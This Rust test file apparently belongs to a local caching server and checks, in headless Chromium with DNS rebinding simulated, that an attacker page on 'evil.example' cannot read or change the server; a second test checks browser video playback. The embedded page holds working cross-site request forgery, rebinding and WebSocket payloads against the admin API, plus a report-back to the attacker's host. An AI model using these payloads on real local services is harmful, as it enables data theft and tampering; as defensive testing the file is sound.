//! A page of another site in a real browser: it reads nothing of the server, and changes nothing.
//!
//! Chromium is told that the page's name is this machine's, as it would be after DNS rebinding. The page tries what pages
//! can: requests by script, forms, pictures, WebSockets.

use crate::support::{Film, PATIENCE, Pond, Upstream, get, is_missing, rule};
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::mpsc::{Receiver, Sender, channel};
use tempfile::TempDir;

/// The page; `POND` stands for the server's port. What it could read it reports to its own server at the end.
const PAGE: &str = r#"<!DOCTYPE html><title>attack</title><body><iframe name=f></iframe><script>
const pond = "http://127.0.0.1:POND", own = "http://evil.example:POND", seen = [];
const note = (what, text) => seen.push(what + ": " + String(text).slice(0, 200));
async function read(what, url, options) {
    try { const r = await fetch(url, options); note(what, r.type + " " + r.status + " " + await r.text()); }
    catch (error) { note(what, "blocked"); }
}
function form(action) {
    const form = document.createElement("form");
    form.method = "POST"; form.enctype = "text/plain"; form.action = action; form.target = "f";
    const field = document.createElement("input"); field.name = '{"code":"'; field.value = '"}'; form.append(field);
    document.body.append(form); form.submit();
}
function picture(url) { return new Promise(done => { const i = new Image(); i.onload = i.onerror = done; i.src = url; }); }
function socket(url) {
    return new Promise(done => {
        const s = new WebSocket(url);
        s.onopen = () => { note("socket", "open"); done(); };
        s.onerror = () => { note("socket", "refused"); done(); };
    });
}
(async () => {
    await read("list", pond + "/-/api/v1/objects");
    await read("list opaque", pond + "/-/api/v1/objects", {mode: "no-cors", credentials: "include"});
    await read("rebound list", own + "/-/api/v1/objects", {mode: "no-cors"});
    await read("rebound film", own + "/film");
    await read("metrics", pond + "/-/metrics");
    await read("purge", pond + "/-/api/v1/objects?prefix=http", {method: "DELETE"});
    await read("purge opaque", pond + "/-/api/v1/objects?prefix=http", {method: "POST", mode: "no-cors"});
    await read("put", pond + "/mine/owned", {method: "PUT", body: "owned"});
    await read("code", pond + "/-/api/v1/codes", {method: "POST", mode: "no-cors"});
    form(pond + "/-/api/v1/verify");
    form(pond + "/-/api/v1/codes");
    await picture(pond + "/-/api/v1/objects?prefix=http");
    await socket("ws://127.0.0.1:POND/film");
    await socket("ws://127.0.0.1:POND/-/api/v1/objects");
    await fetch("/report", {method: "POST", body: seen.join(" | ")});
})();
</script></body>"#;

/// A server of that page, whatever is asked for; its port, and what the page reports.
fn serve_page(page: String) -> (u16, Receiver<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = listener.local_addr().expect("bound").port();
    let (report, reported) = channel();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let (stream, page, report) = (stream.expect("connected"), page.clone(), report.clone());
            std::thread::spawn(move || answer(stream, &page, &report));
        }
    });
    (port, reported)
}

fn answer(stream: TcpStream, page: &str, report: &Sender<String>) {
    let mut stream = BufReader::new(stream);
    let (mut first, mut length) = (String::new(), 0);
    loop {
        let mut line = String::new();
        if stream.read_line(&mut line).unwrap_or(0) <= 2 {
            break;
        }
        if let Some((_, value)) = line
            .split_once(':')
            .filter(|(name, _)| name.eq_ignore_ascii_case("content-length"))
        {
            length = value.trim().parse().expect("a length");
        }
        if first.is_empty() {
            first = line;
        }
    }
    if first.starts_with("POST /report") {
        let mut body = vec![0; length];
        if stream.read_exact(&mut body).is_ok() {
            // A report behind the first finds nobody.
            let _ = report.send(String::from_utf8_lossy(&body).into_owned());
        }
    }
    let head = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        page.len()
    );
    let _ = stream.get_mut().write_all(head.as_bytes());
    let _ = stream.get_mut().write_all(page.as_bytes());
}

/// Chromium with a profile of its own, in which that name is this machine's.
fn chromium(profile: &TempDir) -> Command {
    let mut command = Command::new("chromium");
    command
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-dev-shm-usage",
            "--host-resolver-rules=MAP evil.example 127.0.0.1",
        ])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .stderr(Stdio::null());
    command
}

/// The report of the page at the URL.
fn report_of(url: &str, reported: &Receiver<String>) -> String {
    let profile = TempDir::new().expect("a directory");
    let mut child = chromium(&profile)
        .args(["--remote-debugging-port=0", url])
        .stdout(Stdio::null())
        .spawn()
        .expect("chromium is installed");
    let report = reported.recv_timeout(PATIENCE);
    let _ = child.kill();
    let _ = child.wait();
    report.expect("the page came to its end")
}

/// The document of the URL, as Chromium has it.
fn document_of(url: &str) -> String {
    let profile = TempDir::new().expect("a directory");
    let output = chromium(&profile).args(["--dump-dom", url]).output();
    String::from_utf8_lossy(&output.expect("chromium is installed").stdout).into_owned()
}

#[test]
fn a_page_of_another_site_reads_nothing_and_changes_nothing() {
    if is_missing("chromium") {
        return;
    }
    let film = Film::new(1000);
    let upstream = Upstream::of(&film);
    let (mine, data) = (
        TempDir::new().expect("a directory"),
        TempDir::new().expect("a directory"),
    );
    let pond = Pond::with(
        &upstream,
        &[
            ("directory", &format!("mine={},writable", mine.path().display())),
            ("data", &data.path().display().to_string()),
            ("open", "true"),
        ],
    );
    get(pond.address(), "/film").expect(200);
    pond.until_state("complete");
    let before = pond.object();
    let page = PAGE.replace("POND", &pond.address().port().to_string());
    let (port, reported) = serve_page(page);
    let seen = report_of(&format!("http://evil.example:{port}/"), &reported);
    assert!(
        seen.contains("list: blocked") && seen.contains("socket: refused"),
        "{seen}"
    );
    for read in [
        "complete",
        upstream.url().as_str(),
        "millpond_",
        "socket: open",
        "\"code\"",
    ] {
        assert!(!seen.contains(read), "{read} was read: {seen}");
    }
    assert_eq!(
        seen.matches("basic 200").count() + seen.matches("cors 200").count(),
        0,
        "{seen}"
    );
    // By the name that was made to point here, as the whole page.
    let rebound = document_of(&format!(
        "http://evil.example:{}/-/api/v1/objects",
        pond.address().port()
    ));
    assert!(
        rebound.contains("evil.example") && !rebound.contains("complete"),
        "{rebound}"
    );
    assert_eq!(pond.object(), before, "nothing was purged or pinned");
    assert!(!mine.path().join("owned").exists(), "nothing was written");
    let changes = rule(pond.address(), "GET", "/-/metrics", &[]).text();
    assert!(!changes.contains("status=\"201\""), "{changes}");
}

/// A film of five red seconds, as a browser plays it.
fn red_film() -> Vec<u8> {
    let output = Command::new("ffmpeg")
        .args([
            "-v",
            "error",
            "-f",
            "lavfi",
            "-i",
            "color=c=red:size=320x240:rate=5:duration=5",
        ])
        .args(["-c:v", "libvpx", "-f", "webm", "-"])
        .output()
        .expect("ffmpeg is installed");
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    output.stdout
}

/// The red pixels of the picture in the file, and all.
fn red_pixels(picture: &Path) -> (usize, usize) {
    let output = Command::new("ffmpeg")
        .args(["-v", "error", "-i"])
        .arg(picture)
        .args(["-f", "rawvideo", "-pix_fmt", "rgb24", "-"])
        .output()
        .expect("ffmpeg is installed");
    let pixels = output.stdout.as_chunks::<3>().0;
    let red = pixels
        .iter()
        .filter(|[red, green, blue]| *red > 180 && *green < 90 && *blue < 90);
    (red.count(), pixels.len())
}

#[test]
fn a_film_at_any_url_plays_in_the_browser_that_opens_its_address() {
    if is_missing("chromium") || is_missing("ffmpeg") {
        return;
    }
    let film = red_film();
    let upstream = Upstream::scripted(move |seen, conn| {
        let kind = [("Content-Type", "video/webm".to_string())];
        let (status, bytes, more) = match seen.range(film.len() as u64) {
            Some((start, end)) => {
                let part = ("Content-Range", format!("bytes {start}-{}/{}", end - 1, film.len()));
                (206, &film[start as usize..end as usize], vec![part])
            }
            None => (200, &film[..], Vec::new()),
        };
        let length = ("Content-Length", bytes.len().to_string());
        conn.head(status, &[&kind[..], &[length], &more].concat());
        if seen.method != "HEAD" {
            conn.raw(bytes);
        }
    });
    let pond = Pond::start(&[("allow_private", "true")]);
    let (profile, picture) = (
        TempDir::new().expect("a directory"),
        TempDir::new().expect("a directory"),
    );
    let picture = picture.path().join("seen.png");
    let target = format!("{}film.webm", upstream.url().replacen("://", "/", 1));
    let output = chromium(&profile)
        .args(["--autoplay-policy=no-user-gesture-required", "--window-size=400,300"])
        .arg("--timeout=6000")
        .arg(format!("--screenshot={}", picture.display()))
        .arg(format!("http://{}/{target}", pond.address()))
        .output()
        .expect("chromium is installed");
    assert!(output.status.success());
    let (red, all) = red_pixels(&picture);
    assert!(
        red * 4 > all,
        "{red} of {all} pixels are the film's: it was not shown, though its page may not run programs"
    );
}
